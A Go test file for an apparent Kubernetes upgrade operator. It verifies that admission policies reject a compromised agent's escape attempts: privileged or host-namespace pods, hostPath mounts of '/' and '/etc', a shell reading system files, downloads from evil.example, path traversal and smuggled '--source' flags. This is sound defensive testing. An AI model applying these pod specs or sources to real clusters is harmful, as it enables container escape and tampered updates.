package attack

import (
	"context"
	"slices"
	"testing"
	"time"

	batchv1 "k8s.io/api/batch/v1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/utils/ptr"

	"slipway.dev/slipway/ops/agent"
	v1 "slipway.dev/slipway/ops/apis/ops.slipway.dev/v1"
	"slipway.dev/slipway/ops/generated/clientset/versioned"
	"slipway.dev/slipway/ops/manifest"
	"slipway.dev/slipway/ops/protocol"
	"slipway.dev/slipway/ops/testenv"
)

// The UpdateChannel agent's installation the attacks run against.
var agentOpts = manifest.Options{Namespace: "slipway-attack", Image: "slipway:attack", MirrorDirs: []string{"/srv/mirror"},
	TokenSecrets: []string{"gh-token"}, GitHubDownloadBase: "https://github.example/", ReleaseSources: []string{"github-releases://o/r"}}

// agentOnA installs the manifest's access objects and returns the
// clients of the agent pod on node-a (node-b exists beside it).
func agentOnA(ctx context.Context, t *testing.T) (*rest.Config, kubernetes.Interface) {
	t.Helper()
	testenv.Need(t, env)
	apply(ctx, t, env.Config, manifest.AccessObjects(agentOpts))
	defaultServiceAccount(ctx, t, agentOpts.Namespace)
	podOn(ctx, t, agentOpts.Namespace, manifest.AgentName, "node-b")
	cfg := podOn(ctx, t, agentOpts.Namespace, manifest.AgentName, "node-a")
	return cfg, kubernetes.NewForConfigOrDie(cfg)
}

// defaultServiceAccount creates ns's default ServiceAccount, as
// kube-controller-manager does in every namespace of a cluster (the
// control plane of these tests runs none): a Pod with no ServiceAccount
// runs as it, and the API server refuses a Pod whose ServiceAccount does
// not exist.
func defaultServiceAccount(ctx context.Context, t *testing.T, ns string) {
	t.Helper()
	sa := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "default", Namespace: ns}}
	_, err := kubernetes.NewForConfigOrDie(env.Config).CoreV1().ServiceAccounts(ns).Create(ctx, sa, metav1.CreateOptions{})
	if err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatal(err)
	}
}

// legitJob is the Job the agent on node-a really creates for a slot of ch.
func legitJob(t *testing.T, ch *v1.UpdateChannel) *batchv1.Job {
	t.Helper()
	return legitJobs(t, ch)[agent.JobUpgrade]
}

// legitJobs are the Jobs of every kind the agent on node-a really creates for a slot of ch.
func legitJobs(t *testing.T, ch *v1.UpdateChannel) map[string]*batchv1.Job {
	t.Helper()
	jobs, err := agent.Jobs(agent.Options{NodeName: "node-a", Image: agentOpts.Image, Namespace: agentOpts.Namespace}, ch,
		v1.Slot{Node: "node-a", Version: "v2", Attempt: 1, Since: metav1.Now()})
	if err != nil {
		t.Fatal(err)
	}
	return jobs
}

func channelOf(spec v1.UpdateChannelSpec) *v1.UpdateChannel {
	return &v1.UpdateChannel{ObjectMeta: metav1.ObjectMeta{Name: "c", Namespace: agentOpts.Namespace, UID: "uid-1"}, Spec: spec}
}

// TestAgentCreatesOnlyItsOwnNodesUpgradeJobs (issue 22, right 1): the agent
// on node-a creates the Jobs it really builds, and no Job of another node,
// another shape, another namespace (its Pods: TestAgentCreatesOnlyItsOwnNodesSlotPods).
func TestAgentCreatesOnlyItsOwnNodesUpgradeJobs(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	_, asAgent := agentOnA(ctx, t)
	jobs := asAgent.BatchV1().Jobs(agentOpts.Namespace)
	dry := metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}
	mirror := legitJob(t, channelOf(v1.UpdateChannelSpec{URL: "file:///srv/mirror", Version: "v2"}))
	waitPolicy(t, "upgrade Jobs", func() error {
		j := mirror.DeepCopy()
		j.Spec.Template.Spec.NodeName = "node-b"
		_, err := jobs.Create(ctx, j, dry)
		return err
	})
	resolved := channelOf(v1.UpdateChannelSpec{URL: "github-releases://o/r", Version: "v2"})
	resolved.Status.Resolved = &v1.ResolvedRelease{Version: "v2", Source: "https://github.example/o/r/releases", At: metav1.Now()}
	for name, ch := range map[string]*v1.UpdateChannel{"mirror channel": channelOf(v1.UpdateChannelSpec{URL: "file:///srv/mirror", Version: "v2"}),
		"github channel with its token":                         channelOf(v1.UpdateChannelSpec{URL: "github-releases://o/r", Version: "v2", TokenSecretRef: &v1.SecretKeyRef{Name: "gh-token"}}),
		"github channel from its repository's download address": resolved,
		"mirror channel with the longest upgradeTimeout (a week)": channelOf(v1.UpdateChannelSpec{URL: "file:///srv/mirror", Version: "v2",
			UpgradeTimeout: &metav1.Duration{Duration: 7 * 24 * time.Hour}})} {
		for kind, j := range legitJobs(t, ch) {
			if _, err := jobs.Create(ctx, j, dry); err != nil {
				t.Errorf("the agent's own %s Job of a %s is refused: %v", kind, name, err)
			}
		}
	}
	attacks := map[string]func(*batchv1.Job){
		"with a manual selector": func(j *batchv1.Job) {
			j.Spec.ManualSelector = ptr.To(true)
			j.Spec.Selector = &metav1.LabelSelector{MatchLabels: map[string]string{protocol.LabelJobNode: "node-a"}}
		},
		"of parallelism 10000": func(j *batchv1.Job) {
			j.Spec.Parallelism, j.Spec.Completions = ptr.To[int32](10000), ptr.To[int32](10000)
		},
		"with a pod label drains leave alone": func(j *batchv1.Job) {
			j.Spec.Template.Labels[protocol.LabelAppName] = protocol.ControllerApp
		},
		"suspended":                     func(j *batchv1.Job) { j.Spec.Suspend = ptr.To(true) },
		"managed by another controller": func(j *batchv1.Job) { j.Spec.ManagedBy = ptr.To("example.com/evil") },
		"kept for ever":                 func(j *batchv1.Job) { j.Spec.TTLSecondsAfterFinished = nil },
		"with a finalizer on its pod":   func(j *batchv1.Job) { j.Spec.Template.Finalizers = []string{"example.com/pin"} },
		// Its identity: every name, label and annotation a reader trusts is its own node's.
		"named for another node": func(j *batchv1.Job) {
			j.Name = protocol.JobName(protocol.JobKindUpgrade, "node-b", "v2", "abcdef", "1")
		},
		"named for a node whose name extends its own": func(j *batchv1.Job) {
			j.Name = protocol.JobName(protocol.JobKindUpgrade, "node-a-b", "v2", "abcdef", "1")
		},
		"named as a staging Job": func(j *batchv1.Job) { j.Name = protocol.JobName(protocol.JobKindStage, "node-a", "v2", "abcdef", "1") },
		"with a generated name": func(j *batchv1.Job) {
			j.Name, j.GenerateName = "", protocol.JobNamePrefix(protocol.JobKindUpgrade, "node-a")
		},
		"labelled for another node": func(j *batchv1.Job) {
			j.Labels[protocol.LabelJobNode] = "node-b"
			j.Spec.Template.Labels[protocol.LabelJobNode] = "node-b"
		},
		"with its pod labelled for another node": func(j *batchv1.Job) { j.Spec.Template.Labels[protocol.LabelJobNode] = "node-b" },
		"annotated for another node": func(j *batchv1.Job) {
			j.Annotations[protocol.AnnotationJobNode] = "node-b"
			j.Spec.Template.Annotations[protocol.AnnotationJobNode] = "node-b"
		},
		"with its pod annotated for another node": func(j *batchv1.Job) { j.Spec.Template.Annotations[protocol.AnnotationJobNode] = "node-b" },
		"a staging Job under an upgrade's name": func(j *batchv1.Job) {
			j.Annotations[protocol.AnnotationJobAction] = protocol.JobActionStage
			j.Spec.Template.Annotations[protocol.AnnotationJobAction] = protocol.JobActionStage
		},
	}
	for name, edit := range podSpecAttacks {
		attacks[name] = func(j *batchv1.Job) { edit(&j.Spec.Template.Spec) }
	}
	for name, edit := range attacks {
		j := mirror.DeepCopy()
		edit(j)
		if why := refused(second(jobs.Create(ctx, j, dry)), "upgrade Jobs"); why != "" {
			t.Errorf("a Job %s: %s", name, why)
		}
	}
	if why := refused(second(asAgent.BatchV1().Jobs("default").Create(ctx, mirror.DeepCopy(), dry)), ""); why != "" {
		t.Errorf("a Job in another namespace: %s", why)
	}
}

// podSpecAttacks change the pod of an agent's Job (its template) or of its
// slot Pod into what a compromised agent might ask for: each is refused
// on both.
var podSpecAttacks = map[string]func(*corev1.PodSpec){
	"for another node": func(s *corev1.PodSpec) { s.NodeName = "node-b" },
	"for the scheduler to place": func(s *corev1.PodSpec) {
		s.NodeName = ""
		s.NodeSelector = map[string]string{"kubernetes.io/hostname": "node-b"}
	},
	"privileged": func(s *corev1.PodSpec) {
		c(s).SecurityContext.Privileged, c(s).SecurityContext.AllowPrivilegeEscalation = ptr.To(true), nil
	},
	"escalating":        func(s *corev1.PodSpec) { c(s).SecurityContext.AllowPrivilegeEscalation = nil },
	"with SYS_PTRACE":   func(s *corev1.PodSpec) { add(c(s), "SYS_PTRACE") },
	"in the host's PID": func(s *corev1.PodSpec) { s.HostPID = true },
	"in the host's IPC": func(s *corev1.PodSpec) { s.HostIPC = true },
	"on the host's net": func(s *corev1.PodSpec) { s.HostNetwork = true },
	"with the host's / as system dir": func(s *corev1.PodSpec) {
		s.Volumes[0].HostPath.Path = "/"
	},
	"with /etc as a mirror": func(s *corev1.PodSpec) { vol(s, "mirror").HostPath.Path = "/etc" },
	"with a third host path": func(s *corev1.PodSpec) {
		s.Volumes = append(s.Volumes, corev1.Volume{Name: "etc", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/etc"}}})
		c(s).VolumeMounts = append(c(s).VolumeMounts, corev1.VolumeMount{Name: "etc", MountPath: "/host/etc"})
	},
	"with the mirror writable": func(s *corev1.PodSpec) {
		for i := range c(s).VolumeMounts {
			c(s).VolumeMounts[i].ReadOnly = false
		}
	},
	"of another image":        func(s *corev1.PodSpec) { c(s).Image = "evil:latest" },
	"running a shell":         func(s *corev1.PodSpec) { c(s).Command = []string{"/bin/sh", "-c", "cat /k3os/system/*"} },
	"running another command": func(s *corev1.PodSpec) { c(s).Args = []string{"config", "apply"} },
	"with an API token":       func(s *corev1.PodSpec) { s.AutomountServiceAccountToken = nil },
	"with an API token mounted as a volume": func(s *corev1.PodSpec) {
		s.Volumes = append(s.Volumes, corev1.Volume{Name: "token", VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{
			Sources: []corev1.VolumeProjection{{ServiceAccountToken: &corev1.ServiceAccountTokenProjection{Path: "token"}}}}}})
		c(s).VolumeMounts = append(c(s).VolumeMounts, corev1.VolumeMount{Name: "token", MountPath: "/var/run/secrets/kubernetes.io/serviceaccount"})
	},
	"as another ServiceAccount": func(s *corev1.PodSpec) {
		s.ServiceAccountName = manifest.AgentName
	},
	"reading another Secret": func(s *corev1.PodSpec) {
		c(s).Env = []corev1.EnvVar{{Name: "GITHUB_TOKEN", ValueFrom: &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{
			LocalObjectReference: corev1.LocalObjectReference{Name: "other"}, Key: "token"}}}}
	},
	// The release source (whoever wrote the node's channel view, a
	// compromised controller included, cannot choose it).
	"downloading from another host":         func(s *corev1.PodSpec) { setSource(s, "https://evil.example/o/r/releases") },
	"downloading another GitHub repository": func(s *corev1.PodSpec) { setSource(s, "https://github.example/evil/r/releases") },
	"downloading another github channel":    func(s *corev1.PodSpec) { setSource(s, "github-releases://evil/r") },
	"escaping the mirror":                   func(s *corev1.PodSpec) { setSource(s, "file:///srv/mirror/../../etc") },
	"naming a second source": func(s *corev1.PodSpec) {
		c(s).Args = append(c(s).Args, "--source", "https://evil.example/releases")
	},
	"naming its source as --source=": func(s *corev1.PodSpec) { c(s).Args = append(c(s).Args, "--source=https://evil.example/releases") },
	"naming its source as -source":   func(s *corev1.PodSpec) { c(s).Args = append(c(s).Args, "-source", "https://evil.example/releases") },
	"upgrading from the default source": func(s *corev1.PodSpec) {
		i := slices.Index(c(s).Args, "--source")
		c(s).Args = slices.Delete(c(s).Args, i, i+2)
	},
	"with a second container": func(s *corev1.PodSpec) {
		s.Containers = append(s.Containers, corev1.Container{Name: "sidecar", Image: agentOpts.Image})
	},
	"with a second toleration": func(s *corev1.PodSpec) {
		s.Tolerations = append(s.Tolerations, corev1.Toleration{Key: "example.com/x", Operator: corev1.TolerationOpEqual, Value: "y"})
	},
	"with an init container": func(s *corev1.PodSpec) {
		s.InitContainers = []corev1.Container{{Name: "i", Image: agentOpts.Image}}
	},
	// What a deny-list admitted: the pod is compared with its canonical shape.
	"running another slipway command in a lifecycle hook": func(s *corev1.PodSpec) {
		c(s).Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"slipway", "ops", "upgrade", "--source", "https://evil.example/"}}}}
	},
	"running another slipway command in a probe": func(s *corev1.PodSpec) {
		c(s).StartupProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"slipway", "ops", "rollback"}}}}
	},
	"with seccomp Unconfined": func(s *corev1.PodSpec) {
		c(s).SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
	},
	"with the pod's seccomp Unconfined": func(s *corev1.PodSpec) {
		s.SecurityContext = &corev1.PodSecurityContext{SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}}
	},
	"as SELinux spc_t":     func(s *corev1.PodSpec) { c(s).SecurityContext.SELinuxOptions = &corev1.SELinuxOptions{Type: "spc_t"} },
	"with a hostPort":      func(s *corev1.PodSpec) { c(s).Ports = []corev1.ContainerPort{{ContainerPort: 22, HostPort: 22}} },
	"system-node-critical": func(s *corev1.PodSpec) { s.PriorityClassName = "system-node-critical" },
	"with a writable volume over /etc/ssl/certs": func(s *corev1.PodSpec) {
		c(s).VolumeMounts = append(c(s).VolumeMounts, corev1.VolumeMount{Name: "system", MountPath: "/etc/ssl/certs"})
	},
	"with the proc mount unmasked": func(s *corev1.PodSpec) {
		s.HostUsers, c(s).SecurityContext.ProcMount = ptr.To(false), ptr.To(corev1.UnmaskedProcMount)
	},
	"with a sysctl": func(s *corev1.PodSpec) {
		s.SecurityContext = &corev1.PodSecurityContext{Sysctls: []corev1.Sysctl{{Name: "kernel.shm_rmid_forced", Value: "1"}}}
	},
	"with another system directory flag": func(s *corev1.PodSpec) { c(s).Args = append(c(s).Args, "--system-dir", "/run/k3os") },
	"with an unknown flag":               func(s *corev1.PodSpec) { c(s).Args = append(c(s).Args, "--config", "/etc/evil") },
}

// c is the container of pod spec s.
func c(s *corev1.PodSpec) *corev1.Container { return &s.Containers[0] }

// setSource sets the value after the container's --source.
func setSource(s *corev1.PodSpec, source string) {
	c(s).Args[slices.Index(c(s).Args, "--source")+1] = source
}

func add(ct *corev1.Container, cp corev1.Capability) {
	ct.SecurityContext.Capabilities.Add = append(ct.SecurityContext.Capabilities.Add, cp)
}

func vol(s *corev1.PodSpec, name string) *corev1.Volume {
	for i, v := range s.Volumes {
		if v.Name == name {
			return &s.Volumes[i]
		}
	}
	panic("no volume " + name)
}

// TestAgentWritesOnlyItsOwnHeartbeat (issue 22, right 3): the agent on
// node-a renews its own heartbeat Lease and cannot create, take over or
// delete another node's, nor write a Lease that is not slipway's.
func TestAgentWritesOnlyItsOwnHeartbeat(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	_, asAgent := agentOnA(ctx, t)
	ns := agentOpts.Namespace
	admin := kubernetes.NewForConfigOrDie(env.Config)
	lease := func(name, holder string) *coordinationv1.Lease {
		return &coordinationv1.Lease{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns},
			Spec: coordinationv1.LeaseSpec{HolderIdentity: ptr.To(holder), LeaseDurationSeconds: ptr.To[int32](180)}}
	}
	bLease := protocol.AgentLeaseName("node-b")
	if _, err := admin.CoordinationV1().Leases(ns).Create(ctx, lease(bLease, "node-b"), metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	leases := asAgent.CoordinationV1().Leases(ns)
	const msg = "own node's heartbeat Lease"
	waitPolicy(t, msg, func() error {
		_, err := leases.Create(ctx, lease("probe", "node-a"), metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		return err
	})
	own, err := leases.Create(ctx, lease(protocol.AgentLeaseName("node-a"), "node-a"), metav1.CreateOptions{})
	if err != nil {
		t.Fatalf("the agent cannot create its own heartbeat: %v", err)
	}
	own.Spec.RenewTime = ptr.To(metav1.NowMicro())
	if _, err := leases.Update(ctx, own, metav1.UpdateOptions{}); err != nil {
		t.Errorf("the agent cannot renew its own heartbeat: %v", err)
	}
	other, err := admin.CoordinationV1().Leases(ns).Get(ctx, bLease, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	other.Spec.RenewTime = ptr.To(metav1.NowMicro())
	for name, err := range map[string]error{
		"fake another node's heartbeat": second(leases.Update(ctx, other, metav1.UpdateOptions{})),
		"create another node's heartbeat": second(leases.Create(ctx, lease(protocol.AgentLeaseName("node-c"), "node-c"),
			metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})),
		"hold its own heartbeat for another node": second(leases.Create(ctx, lease(protocol.AgentLeaseName("node-a")+"x", "node-b"),
			metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})),
		"write a Lease that is not slipway's": second(leases.Create(ctx, lease("kube-scheduler", "node-a"), metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})),
	} {
		if why := refused(err, msg); why != "" {
			t.Errorf("%s: %s", name, why)
		}
	}
	for name, err := range map[string]error{
		"delete another node's heartbeat": leases.Delete(ctx, bLease, metav1.DeleteOptions{}),
		"write a node Lease of the kubelet": second(asAgent.CoordinationV1().Leases("kube-node-lease").Create(ctx, lease("node-b", "node-b"),
			metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})),
	} {
		if why := refused(err, ""); why != "" {
			t.Errorf("%s: %s", name, why)
		}
	}
}

func second[T any](_ T, err error) error { return err }

// TestResolvedSourcePinnedToTheChannelsRepository (issue 22, right 2): no
// status writer (the controller, the only one) can point a
// github-releases:// channel's Jobs at another repository or host; its
// own repository's download address goes through.
func TestResolvedSourcePinnedToTheChannelsRepository(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	agentOnA(ctx, t)
	cfg := podOn(ctx, t, agentOpts.Namespace, manifest.ControllerName, "node-cp")
	admin := versioned.NewForConfigOrDie(env.Config).OpsV1().UpdateChannels(agentOpts.Namespace)
	ch, err := admin.Create(ctx, &v1.UpdateChannel{ObjectMeta: metav1.ObjectMeta{Name: "pinned", Namespace: agentOpts.Namespace},
		Spec: v1.UpdateChannelSpec{URL: "github-releases://o/r/", Version: "v2", Paused: true}}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	asController := versioned.NewForConfigOrDie(cfg).OpsV1().UpdateChannels(agentOpts.Namespace)
	write := func(source string) error {
		c, err := asController.Get(ctx, ch.Name, metav1.GetOptions{})
		if err != nil {
			return err
		}
		c.Status.Resolved = &v1.ResolvedRelease{Version: "v2", Source: source, At: metav1.Now()}
		_, err = asController.UpdateStatus(ctx, c, metav1.UpdateOptions{})
		return err
	}
	const msg = "own repository's download address"
	waitPolicy(t, msg, func() error { return write("https://evil.example/o/r/releases") })
	for _, source := range []string{"https://github.example/evil/r/releases", "https://github.example/o/r/releases/../../../evil/r/releases",
		"http://github.example/o/r/releases", "file:///tmp/evil"} {
		if why := refused(write(source), msg); why != "" {
			t.Errorf("resolved.source %s: %s", source, why)
		}
	}
	for _, source := range []string{"https://github.example/o/r/releases", "github-releases://o/r/"} {
		if err := write(source); err != nil {
			t.Errorf("resolved.source %s (the channel's own) refused: %v", source, err)
		}
	}
}

// TestAgentPatchesOnlyItsOwnNode (issue 22, "patch another node"): with
// its real token, the agent cordons its own Node and no other.
func TestAgentPatchesOnlyItsOwnNode(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	_, asAgent := agentOnA(ctx, t)
	patch := func(node string) error {
		_, err := asAgent.CoreV1().Nodes().Patch(ctx, node, types.MergePatchType, []byte(`{"spec":{"unschedulable":true}}`), metav1.PatchOptions{})
		return err
	}
	waitPolicy(t, "only the Node it runs on", func() error { return patch("node-b") })
	if err := patch("node-a"); err != nil {
		t.Errorf("the agent cannot cordon its own Node: %v", err)
	}
}
